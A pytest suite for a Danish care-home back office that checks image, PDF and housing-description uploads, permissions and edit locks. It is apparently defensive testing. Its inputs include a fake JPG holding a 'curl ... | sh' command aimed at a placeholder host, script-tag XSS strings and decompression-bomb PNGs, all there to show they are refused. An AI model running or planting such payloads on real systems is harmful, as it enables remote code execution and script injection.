"""A unit's images, documents and housing descriptions in the back office (plov.media).

Uploads are checked by content and re-encoded; every view asks plov.accounts.scope and needs the
unit's edit lock; a refused request stores nothing (no rows, no files)."""

from __future__ import annotations

import datetime as dt
import html
import io
import os
import struct
import zlib
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import ExifTags, Image
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.models import Collection, ModelLogEntry

from plov.accounts.auth import role_groups
from plov.accounts.models import UserProfile
from plov.backoffice import locking
from plov.media import documents as pdf_checks
from plov.media import images as image_checks
from plov.media.forms import plain_text
from plov.media.models import UnitMediaFolder
from plov.units.models import HousingDescription, Organisation, Unit, UnitContent, UnitDocument
from tests import country as c

SILKEBORG_CVR = "29189919"  # hosts Ældretilsynet Silkeborg, which covers Aarhus (751)
WagtailImage = get_image_model()
WagtailDocument = get_document_model()


# --- fixtures and helpers ------------------------------------------------------------------


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path) -> Path:
    root = tmp_path / "media"
    root.mkdir()
    settings.MEDIA_ROOT = root
    return root


def make_user(username, roles=(), cvr="", sor_ids=(), superuser=False):
    user = get_user_model().objects.create_user(username, is_superuser=superuser)
    UserProfile.objects.create(
        user=user, roles=list(roles), organisation_cvr=cvr, sor_ids=list(sor_ids)
    )
    groups = role_groups()  # each role group carries wagtailadmin.access_admin
    user.groups.add(*[groups[role] for role in roles])
    return get_user_model().objects.get(pk=user.pk)


@pytest.fixture
def world(imported):
    Organisation.objects.create(
        kind=Organisation.Kind.MUNICIPALITY,
        name="Silkeborg Kommune",
        cvr_number=SILKEBORG_CVR,
        municipality_id=740,
    )
    units = {
        "lindehus": Unit.objects.get(sor_id=c.LINDEHUS),  # private care home in Aarhus
        "solgaarden": Unit.objects.get(sor_id=c.SOLGAARDEN),  # municipal care home
        "site_private": Unit.objects.get(sor_id=c.SITE_PRIVATE),  # private home-care site
    }
    users = {
        "editor_company": make_user("editor_company", ["editor"], c.COMPANY_CVR),
        "colleague": make_user("colleague", ["editor"], c.COMPANY_CVR),
        "editor_other_company": make_user("editor_other", ["editor"], c.OTHER_COMPANY_CVR),
        "editor_aarhus": make_user("editor_aarhus", ["editor"], c.AARHUS_CVR),
        "contract_aarhus": make_user("contract_aarhus", ["contract_manager"], c.AARHUS_CVR),
        "supervisor_silkeborg": make_user("supervisor", ["supervisor"], SILKEBORG_CVR),
        "agency": make_user("agency", ["agency"], "33257872"),
    }
    return units, users


def lock(unit, user, *, minutes_ago=0) -> UnitContent:
    content, _ = UnitContent.objects.get_or_create(unit=unit)
    content.locked = True
    content.locked_by = user
    content.locked_at = timezone.now() - dt.timedelta(minutes=minutes_ago)
    content.save()
    return content


@pytest.fixture
def editor(world, client):
    """The private company's editor, logged in, holding Lindehus' lock."""
    units, users = world
    lock(units["lindehus"], users["editor_company"])
    client.force_login(users["editor_company"])
    return units["lindehus"], users["editor_company"]


def url(name, unit, *args):
    return reverse(f"unitmedia:{name}", args=[unit.pk, *args])


def picture(fmt="JPEG", size=(800, 600), mode="RGB", **save) -> bytes:
    image = Image.new(mode, size, "white" if mode != "1" else 1)
    for x in range(0, size[0], 40):  # some detail, so encoders do real work
        for y in range(0, min(size[1], 40)):
            image.putpixel((x, y), (200, 30, 30) if mode == "RGB" else 0)
    buffer = io.BytesIO()
    image.save(buffer, fmt, **save)
    return buffer.getvalue()


def png_header(width, height) -> bytes:
    """A PNG that claims width × height pixels but holds almost nothing (a cheap 'bomb')."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + chunk(b"IEND", b"")
    )


def pdf(padding: int = 0) -> bytes:
    """A minimal, valid one-page PDF; `padding` bytes of comment make it bigger."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if padding:
        out += b"%" + b"x" * padding + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def upload(name, data, content_type="application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def stored_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def nothing_stored(media_root) -> bool:
    return (
        not WagtailImage.objects.exists()
        and not WagtailDocument.objects.exists()
        and not UnitDocument.objects.exists()
        and not HousingDescription.objects.exists()
        and not stored_files(media_root)
        and not UnitContent.objects.exclude(image_1=None).exists()
    )


def post_image(client, unit, slot=1, *, name="foto.jpg", data=None, alt="Fællesstuen med udsigt"):
    data = picture() if data is None else data
    return client.post(url("image", unit, slot), {"file": upload(name, data), "alt_text": alt})


def changes_logged():
    """Log entries of changes (not the logins the test client makes)."""
    return ModelLogEntry.objects.exclude(action="plov.login").order_by("pk")


def errors(response) -> str:
    return " ".join(
        str(e) for form_errors in response.context["form"].errors.values() for e in form_errors
    )


def stored_image(image) -> Image.Image:
    with image.file.open("rb") as f:
        return Image.open(io.BytesIO(f.read()))


# --- images --------------------------------------------------------------------------------


def heic_or_skip() -> bytes:
    if not image_checks.HEIF_SUPPORTED:
        pytest.skip("pillow-heif is not installed")
    import pillow_heif

    if not pillow_heif.libheif_info().get("HEIF"):
        pytest.skip("this pillow-heif build cannot encode HEIF")
    return picture("HEIF", size=(4800, 600), quality=70)


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP", "HEIF"])
def test_each_accepted_format_is_stored_as_a_resized_jpeg(editor, client, media_root, fmt):
    unit, user = editor
    data = heic_or_skip() if fmt == "HEIF" else picture(fmt, size=(4800, 600))
    extension = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "HEIF": "heic"}[fmt]
    response = post_image(client, unit, name=f"billede.{extension}", data=data)
    assert response.status_code == 302, response.content[:2000]
    content = UnitContent.objects.get(unit=unit)
    image = content.image_1
    assert image is not None and image.description == "Fællesstuen med udsigt"
    stored = stored_image(image)
    assert stored.format == "JPEG"
    assert (stored.width, stored.height) == (2400, 300) == (image.width, image.height)
    assert image.file_size and image.file_hash
    assert image.title == f"billede.{extension}"
    # The unit's own media folder: Enheder › Lindehus (SOR-ID).
    folder = UnitMediaFolder.objects.get(unit=unit).collection
    assert image.collection == folder
    assert folder.name == f"{unit.name} ({unit.sor_id})"
    assert folder.get_parent().name == "Enheder"
    assert folder.get_parent().get_parent() == Collection.get_first_root_node()
    entry = ModelLogEntry.objects.get(action="plov.upload")
    assert entry.user == user and entry.data["slot"] == 1 and entry.data["image"] == image.pk
    assert entry.object_id == str(content.pk)


def test_danish_file_names_with_parentheses_are_accepted_and_kept_as_title(editor, client):
    unit, _ = editor
    name = "Plejecenter Åhaven (forside).jpg"
    assert post_image(client, unit, 2, name=name).status_code == 302
    image = UnitContent.objects.get(unit=unit).image_2
    assert image.title == name
    stored_name = Path(image.file.name).name
    assert stored_name.isascii() and " " not in stored_name and "(" not in stored_name
    assert stored_name.endswith(".jpg") and stored_name != name


def test_exif_and_gps_are_stripped_and_the_orientation_applied(editor, client):
    unit, _ = editor
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # rotate 90° clockwise to display
    exif[ExifTags.Base.Make] = "Kamera A/S"
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (56.0, 9.0, 27.5),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (10.0, 12.0, 14.0),
    }
    data = picture("JPEG", size=(1000, 800), exif=exif.tobytes())
    source = Image.open(io.BytesIO(data))
    assert source.getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test image does carry GPS
    assert post_image(client, unit, data=data).status_code == 302
    image = UnitContent.objects.get(unit=unit).image_1
    with image.file.open("rb") as f:
        raw = f.read()
    stored = Image.open(io.BytesIO(raw))
    assert not stored.getexif()
    assert not stored.getexif().get_ifd(ExifTags.IFD.GPSInfo)
    assert "exif" not in stored.info and b"Exif" not in raw and b"Kamera" not in raw
    assert stored.size == (800, 1000)  # turned upright


def test_a_script_named_jpg_is_refused(editor, client, media_root):
    unit, _ = editor
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n<script>alert(1)</script>\n"
    response = post_image(client, unit, name="forside.jpg", data=script)
    assert response.status_code == 200
    assert "ikke et billede" in errors(response)
    assert nothing_stored(media_root)


@pytest.mark.parametrize(
    "data, why",
    [
        (png_header(20_000, 10_000), "200 megapixels: beyond Pillow's own bomb limit"),
        (png_header(10_000, 5_000), "50 megapixels: beyond plov's 40 megapixel limit"),
    ],
)
def test_decompression_bombs_are_refused_cleanly(editor, client, media_root, data, why):
    unit, _ = editor
    response = post_image(client, unit, name="stort.png", data=data)
    assert response.status_code == 200, why
    assert "for stort" in errors(response)
    assert nothing_stored(media_root)


def test_other_image_formats_and_broken_images_are_refused(editor, client, media_root):
    unit, _ = editor
    gif = picture("GIF")
    truncated = picture("PNG", size=(800, 600))[:300]
    for name, data in (("a.gif", gif), ("b.png", truncated), ("c.jpg", b"")):
        response = post_image(client, unit, name=name, data=data)
        assert response.status_code == 200, name
        assert errors(response), name
    assert nothing_stored(media_root)


@pytest.mark.parametrize("alt", ["", "   ", "<b></b>", "IMG_0042.JPG"])
def test_alt_text_is_required(editor, client, media_root, alt):
    unit, _ = editor
    response = post_image(client, unit, alt=alt)
    assert response.status_code == 200
    assert "alternativ" in errors(response).lower()
    assert nothing_stored(media_root)


def test_replacing_and_removing_a_slot_keeps_the_old_image_until_the_purge(
    editor, client, media_root, django_capture_on_commit_callbacks
):
    """A replaced or removed image stays restorable for 30 days (tests/test_media_history.py);
    `plov purge-removed-media` then deletes it with its file."""
    from django.core.management import call_command

    from plov.media.models import RemovedMedia

    unit, _ = editor
    with django_capture_on_commit_callbacks(execute=True):
        post_image(client, unit, 1, name="first.jpg")
    first = UnitContent.objects.get(unit=unit).image_1
    first_path = Path(first.file.path)
    assert first_path.exists()
    with django_capture_on_commit_callbacks(execute=True):
        assert (
            post_image(client, unit, 1, name="second.png", data=picture("PNG")).status_code == 302
        )
    second = UnitContent.objects.get(unit=unit).image_1
    assert second.pk != first.pk and second.title == "second.png"
    assert RemovedMedia.objects.get().image == first and first_path.exists()
    # Only the alternative text.
    response = client.post(url("image", unit, 1), {"alt_text": "Haven om sommeren"})
    assert response.status_code == 302
    second.refresh_from_db()
    assert second.description == "Haven om sommeren"
    # Removing asks first (saying it can be restored), then removes.
    assert "gendannes" in client.get(url("image_remove", unit, 1)).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url("image_remove", unit, 1)).status_code == 302
    assert UnitContent.objects.get(unit=unit).image_1 is None
    assert WagtailImage.objects.count() == 2
    actions = list(changes_logged().values_list("action", flat=True))
    assert actions == [
        "plov.upload",
        "plov.media_removed",
        "plov.upload",
        "wagtail.edit",
        "plov.media_removed",
    ]
    # 31 days later the nightly purge deletes both, files too.
    RemovedMedia.objects.update(removed_at=timezone.now() - dt.timedelta(days=31))
    with django_capture_on_commit_callbacks(execute=True):
        call_command("purge_removed_media", stdout=io.StringIO())
    assert not WagtailImage.objects.exists() and not RemovedMedia.objects.exists()
    assert not [p for p in stored_files(media_root) if "original_images" in p.parts]


def test_the_overview_shows_the_slots_documents_and_housing(editor, client):
    unit, _ = editor
    post_image(client, unit, 1)
    response = client.get(url("index", unit))
    assert response.status_code == 200
    page = response.content.decode()
    assert "Forsidebillede (vises i søgeresultater)" in page
    assert "Fællesstuen med udsigt" in page
    assert url("document_add", unit) in page and url("housing_add", unit) in page
    assert client.get(url("image", unit, 1)).status_code == 200
    assert client.get(url("image", unit, 5)).status_code == 404


@pytest.mark.parametrize(
    "mode, fmt, extra",
    [
        ("RGBA", "PNG", {}),
        ("P", "PNG", {"transparency": 0}),
        ("L", "PNG", {}),
        ("I;16", "PNG", {}),
        ("CMYK", "JPEG", {}),
        ("LA", "WEBP", {}),
    ],
)
def test_every_colour_mode_becomes_a_plain_rgb_jpeg(mode, fmt, extra):
    image = Image.new(mode, (800, 600))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **extra)
    clean = image_checks.clean_image_bytes(buffer.getvalue())
    result = Image.open(io.BytesIO(clean.content))
    assert result.format == "JPEG" and result.mode == "RGB" and result.size == (800, 600)
    if mode in ("RGBA", "P", "LA"):  # transparency is laid on white
        assert result.getpixel((10, 10)) >= (250, 250, 250)


# --- documents -----------------------------------------------------------------------------


def post_document(
    client,
    unit,
    *,
    data=None,
    name="Tilsynsrapport 2025 – Åhaven",
    file_name="rapport.pdf",
    **extra,
):
    fields = {
        "name": name,
        "document_type": UnitDocument.DocumentType.SUPERVISION_REPORT,
        "file": upload(file_name, pdf() if data is None else data, "application/pdf"),
        **extra,
    }
    return client.post(url("document_add", unit), fields)


def test_a_pdf_is_accepted(editor, client):
    unit, user = editor
    response = post_document(client, unit, file_name="Rapport (endelig) æøå.pdf")
    assert response.status_code == 302
    document = UnitDocument.objects.get(unit=unit)
    assert document.name == "Tilsynsrapport 2025 – Åhaven"
    assert document.document_type == "tilsynsrapport" and not document.annulled
    assert document.document.title == "Rapport (endelig) æøå.pdf"
    assert document.document.file.name.endswith(".pdf") and document.document.file.name.isascii()
    assert document.document.collection == UnitMediaFolder.objects.get(unit=unit).collection
    with document.document.file.open("rb") as f:
        assert f.read() == pdf()
    entry = ModelLogEntry.objects.get(action="plov.upload")
    assert entry.user == user and entry.object_id == str(document.pk)
    assert "Tilsynsrapport 2025" in client.get(url("index", unit)).content.decode()


@pytest.mark.parametrize(
    "data",
    [
        picture("PNG"),
        b"Dette er bare tekst, gemt som .pdf\n",
        b"%PDF-1.4\n",  # a header and nothing else
        pdf()[:-200],  # cut short: no trailer, no %%EOF
        b"MZ\x90\x00" + pdf(),  # something else with a PDF inside
    ],
    ids=["png", "text", "header-only", "truncated", "exe"],
)
def test_a_fake_or_broken_pdf_is_refused(editor, client, media_root, data):
    unit, _ = editor
    response = post_document(client, unit, data=data)
    assert response.status_code == 200
    assert "PDF" in errors(response)
    assert nothing_stored(media_root)


def test_a_too_big_pdf_is_refused(editor, client, media_root, settings):
    unit, _ = editor
    settings.PLOV_MAX_DOCUMENT_MB = 1
    response = post_document(client, unit, data=pdf(padding=1024 * 1024 + 10))
    assert response.status_code == 200
    assert "for stor" in errors(response) and "1 MB" in errors(response)
    assert nothing_stored(media_root)
    assert post_document(client, unit, data=pdf(padding=900 * 1024)).status_code == 302


def test_the_default_document_limit_is_20_mb(settings):
    assert "PLOV_MAX_DOCUMENT_MB" in os.environ or settings.PLOV_MAX_DOCUMENT_MB == 20
    assert pdf_checks.max_bytes() == settings.PLOV_MAX_DOCUMENT_MB * 1024 * 1024


def test_name_type_and_annulled_flag_are_edited_and_logged(editor, client):
    unit, _ = editor
    post_document(client, unit, annulled="on")
    document = UnitDocument.objects.get(unit=unit)
    assert document.annulled  # hidden publicly
    response = client.post(
        url("document_edit", unit, document.pk),
        {
            "name": "Prisliste 2026",
            "document_type": "prisliste",
        },
    )
    assert response.status_code == 302
    document.refresh_from_db()
    assert (document.name, document.document_type, document.annulled) == (
        "Prisliste 2026",
        "prisliste",
        False,
    )
    entry = ModelLogEntry.objects.get(action="wagtail.edit")
    assert entry.data["changes"]["annulled"] == [True, False]
    assert entry.data["changes"]["name"] == ["Tilsynsrapport 2025 – Åhaven", "Prisliste 2026"]
    # An unknown type is refused.
    response = client.post(
        url("document_edit", unit, document.pk),
        {
            "name": "X",
            "document_type": "hemmelig",
        },
    )
    assert response.status_code == 200 and "document_type" in response.context["form"].errors


def test_a_deleted_document_keeps_its_file_until_the_purge(
    editor, client, django_capture_on_commit_callbacks
):
    unit, _ = editor
    post_document(client, unit)
    document = UnitDocument.objects.get(unit=unit)
    path = Path(document.document.file.path)
    assert client.get(url("document_delete", unit, document.pk)).status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url("document_delete", unit, document.pk)).status_code == 302
    assert not UnitDocument.objects.exists()
    assert path.exists()  # restorable for 30 days; then purged with its file
    assert ModelLogEntry.objects.filter(action="plov.media_removed").count() == 1
    from django.core.management import call_command

    from plov.media.models import RemovedMedia

    RemovedMedia.objects.update(removed_at=timezone.now() - dt.timedelta(days=31))
    with django_capture_on_commit_callbacks(execute=True):
        call_command("purge_removed_media", stdout=io.StringIO())
    assert not WagtailDocument.objects.exists() and not path.exists()


def test_a_document_of_another_unit_is_not_found(editor, client, world):
    unit, user = editor
    units, _ = world
    post_document(client, unit)
    document = UnitDocument.objects.get()
    other = units["site_private"]  # same owner, editable, but not the document's unit
    lock(other, user)
    assert client.get(url("document_edit", other, document.pk)).status_code == 404
    assert client.post(url("document_delete", other, document.pk)).status_code == 404
    assert UnitDocument.objects.filter(pk=document.pk).exists()


# --- housing descriptions ------------------------------------------------------------------


def housing(**fields):
    return {
        "title": "1-rumsbolig",
        "persons_per_home": "1",
        "rent": "7.500",
        "deposit": "25000",
        "rooms": "1",
        "description": "Lys bolig med eget bad & altan.",
        **fields,
    }


def test_a_housing_description_is_added_edited_and_deleted(editor, client):
    unit, _ = editor
    response = client.post(
        url("housing_add", unit),
        housing(
            description="<p>Lys bolig</p><p>med <b>eget</b> bad &amp; altan.</p><script>alert(1)</script>",
        ),
    )
    assert response.status_code == 302
    item = HousingDescription.objects.get(unit=unit)
    assert (item.title, item.persons_per_home, item.rent, item.deposit, item.rooms) == (
        "1-rumsbolig",
        1,
        7500,
        25000,
        1,
    )
    assert item.description == "Lys bolig\nmed eget bad & altan."
    response = client.post(
        url("housing_edit", unit, item.pk),
        housing(
            title="parbolig",
            persons_per_home="2",
            rent="",
            deposit="",
            rooms="2",
        ),
    )
    assert response.status_code == 302
    item.refresh_from_db()
    assert (item.title, item.persons_per_home, item.rent, item.deposit) == (
        "parbolig",
        2,
        None,
        None,
    )
    assert client.post(url("housing_delete", unit, item.pk)).status_code == 302
    assert not HousingDescription.objects.exists()
    actions = list(changes_logged().values_list("action", flat=True))
    assert actions == ["wagtail.create", "wagtail.edit", "plov.media_removed"]


@pytest.mark.parametrize(
    "field, value",
    [
        ("rent", "-1"),
        ("rent", "7500,50"),
        ("rent", "mange"),
        ("rent", "1000000"),
        ("deposit", "-5"),
        ("deposit", "99999999"),
        ("rooms", "0"),
        ("rooms", "40"),
        ("persons_per_home", ""),
        ("persons_per_home", "0"),
        ("persons_per_home", "500"),
        ("title", "slot"),
        ("title", ""),
    ],
)
def test_housing_values_are_validated(editor, client, field, value):
    unit, _ = editor
    response = client.post(url("housing_add", unit), housing(**{field: value}))
    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert not HousingDescription.objects.exists()


def test_housing_descriptions_are_for_care_homes_only(world, client):
    units, users = world
    site = units["site_private"]
    lock(site, users["editor_company"])
    client.force_login(users["editor_company"])
    assert client.post(url("housing_add", site), housing()).status_code == 404
    assert not HousingDescription.objects.exists()
    assert "Boligbeskrivelser" not in client.get(url("index", site)).content.decode()


def test_plain_text_strips_markup_and_keeps_danish_letters():
    assert plain_text("  Æble <i>og</i>   øl på  å  ") == "Æble og øl på å"
    assert plain_text("a<br>b\r\nc", multiline=True) == "a\nb\nc"
    assert plain_text("<style>p{}</style>x &lt; y") == "x < y"


# --- who may: the permission matrix, and the lock ------------------------------------------


def attempts(unit):
    """Every kind of change, as (url, data) a browser would post."""
    return [
        (url("image", unit, 1), lambda: {"file": upload("a.jpg", picture()), "alt_text": "Have"}),
        (
            url("document_add", unit),
            lambda: {
                "name": "Rapport",
                "document_type": "andet",
                "file": upload("r.pdf", pdf(), "application/pdf"),
            },
        ),
        (url("housing_add", unit), lambda: housing()),
    ]


MATRIX = {
    # actor: expected status on the private company's care home Lindehus
    "editor_company": 302,  # own organisation: allowed
    "agency": 302,
    "editor_other_company": 404,  # cannot even see it
    "editor_aarhus": 404,  # a municipality's editor on a private unit
    "contract_aarhus": 403,  # may see every unit, edit none
    "supervisor_silkeborg": 403,  # supervises it, does not edit it
}


@pytest.mark.parametrize("actor", list(MATRIX))
def test_permission_matrix(world, client, media_root, actor):
    units, users = world
    unit = units["lindehus"]
    user = users[actor]
    lock(unit, user)  # even holding the lock does not give the right to edit
    client.force_login(user)
    for target, data in attempts(unit):
        response = client.post(target, data())
        assert response.status_code == MATRIX[actor], (actor, target)
        assert client.get(target).status_code == MATRIX[actor] if MATRIX[actor] != 302 else True
    if MATRIX[actor] == 302:
        assert WagtailImage.objects.count() == 1 and UnitDocument.objects.count() == 1
        assert HousingDescription.objects.count() == 1
    else:
        assert nothing_stored(media_root)
        assert not changes_logged().exists()


def test_viewers_see_the_overview_without_edit_buttons(world, client):
    units, users = world
    unit = units["lindehus"]
    for actor in ("contract_aarhus", "supervisor_silkeborg"):
        client.force_login(users[actor])
        response = client.get(url("index", unit))
        assert response.status_code == 200
        assert url("document_add", unit) not in response.content.decode()
    for actor in ("editor_other_company", "editor_aarhus"):
        client.force_login(users[actor])
        assert client.get(url("index", unit)).status_code == 404


def test_anonymous_users_are_sent_to_login_and_nothing_is_stored(world, client, media_root):
    units, _ = world
    unit = units["lindehus"]
    for target, data in attempts(unit):
        response = client.post(target, data())
        assert response.status_code == 302
        assert "login" in response["Location"]
    assert client.get(url("index", unit)).status_code == 302
    assert nothing_stored(media_root)


def test_a_user_without_admin_access_is_refused(world, client, media_root):
    units, _ = world
    user = get_user_model().objects.create_user("nobody")
    client.force_login(user)
    for target, data in attempts(units["lindehus"]):
        assert client.post(target, data()).status_code in (302, 403, 404)
    assert nothing_stored(media_root)


@pytest.mark.parametrize(
    "situation",
    ["no content", "not locked", "locked by a colleague", "expired lock taken by a colleague"],
)
def test_changes_need_the_lock_held_by_the_user(world, client, media_root, settings, situation):
    units, users = world
    unit = units["lindehus"]
    editor, colleague = users["editor_company"], users["colleague"]
    settings.PLOV_LOCK_TIMEOUT_MINUTES = 30
    if situation == "not locked":
        UnitContent.objects.create(unit=unit)
    elif situation == "locked by a colleague":
        lock(unit, colleague)
    elif situation == "expired lock taken by a colleague":
        lock(unit, editor, minutes_ago=31)
        assert locking.acquire(unit, colleague).acquired
    client.force_login(editor)
    for target, data in attempts(unit):
        response = client.post(target, data())
        assert response.status_code == 409, (situation, target)
        assert "låst" in response.content.decode() or "lås" in response.content.decode()
    if situation == "locked by a colleague":
        assert "colleague" in client.get(url("index", unit)).content.decode()
    assert nothing_stored(media_root)


def test_an_expired_lock_nobody_took_still_lets_its_holder_change_and_renews_it(
    world, client, media_root, settings
):
    """The unit editor's rule: an expired lock is the holder's until someone else takes it."""
    units, users = world
    unit, editor = units["lindehus"], users["editor_company"]
    settings.PLOV_LOCK_TIMEOUT_MINUTES = 30
    content = lock(unit, editor, minutes_ago=31)
    client.force_login(editor)
    response = post_document(client, unit)
    assert response.status_code == 302
    assert UnitDocument.objects.filter(unit=unit).count() == 1
    content.refresh_from_db()
    assert content.locked_by == editor
    assert timezone.now() - content.locked_at < dt.timedelta(minutes=1)


def test_an_existing_item_cannot_be_changed_without_the_lock(editor, client, world):
    unit, user = editor
    post_document(client, unit)
    client.post(url("housing_add", unit), housing())
    post_image(client, unit)
    document, item = UnitDocument.objects.get(), HousingDescription.objects.get()
    lock(unit, world[1]["colleague"])
    for target in (
        url("document_edit", unit, document.pk),
        url("document_delete", unit, document.pk),
        url("housing_edit", unit, item.pk),
        url("housing_delete", unit, item.pk),
        url("image_remove", unit, 1),
    ):
        assert (
            client.post(
                target, {"name": "Nyt", "document_type": "andet", **housing(title="parbolig")}
            ).status_code
            == 409
        ), target
    assert UnitDocument.objects.get().name == "Tilsynsrapport 2025 – Åhaven"
    assert HousingDescription.objects.get().title == "1-rumsbolig"
    assert UnitContent.objects.get(unit=unit).image_1 is not None


def test_the_lock_within_the_timeout_is_enough(world, client, settings):
    units, users = world
    settings.PLOV_LOCK_TIMEOUT_MINUTES = 60
    lock(units["lindehus"], users["editor_company"], minutes_ago=45)
    client.force_login(users["editor_company"])
    assert post_image(client, units["lindehus"]).status_code == 302


def test_an_annulled_documents_direct_link_answers_404_publicly(
    imported, client, tmp_path, settings
):
    from django.core.files.base import ContentFile
    from wagtail.documents.models import Document

    from plov.units.models import Unit, UnitDocument

    settings.MEDIA_ROOT = str(tmp_path)
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    document = Document.objects.create(
        title="Tilsynsrapport", file=ContentFile(pdf, name="rapport.pdf")
    )
    unit = Unit.objects.get(sor_id="100000000010")
    link = UnitDocument.objects.create(
        unit=unit, name="Tilsynsrapport 2025", document=document, document_type="tilsynsrapport"
    )
    assert client.get(document.url).status_code == 200
    link.annulled = True
    link.save()
    assert client.get(document.url).status_code == 404


# --- a chosen file the browser forgets -------------------------------------------------------

REPICK_IMAGE = "Vælg billedet igen – af sikkerhedshensyn kan browseren ikke huske filen."
REPICK_PDF = "Vælg PDF-filen igen – af sikkerhedshensyn kan browseren ikke huske filen."


def page_text(response) -> str:
    return html.unescape(response.content.decode())


def test_an_image_form_with_errors_asks_for_the_chosen_file_again(editor, client, media_root):
    unit, _ = editor
    response = post_image(client, unit, alt="")
    assert response.status_code == 200 and errors(response)
    page = page_text(response)
    assert REPICK_IMAGE in page
    # Next to the file field: after it, before the alternative text.
    assert page.index('name="file"') < page.index(REPICK_IMAGE) < page.index('name="alt_text"')
    assert nothing_stored(media_root)


def test_no_note_without_a_chosen_file_or_without_errors(editor, client):
    unit, _ = editor
    response = client.post(url("image", unit, 1), {"alt_text": "Fællesstuen"})
    assert errors(response)  # no file chosen: "Vælg en billedfil."
    assert REPICK_IMAGE not in page_text(response)
    assert REPICK_IMAGE not in page_text(client.get(url("image", unit, 1)))


def test_a_document_form_with_errors_asks_for_the_pdf_again(editor, client, media_root):
    unit, _ = editor
    response = post_document(client, unit, name="")
    assert response.status_code == 200 and errors(response)
    assert REPICK_PDF in page_text(response)
    assert nothing_stored(media_root)
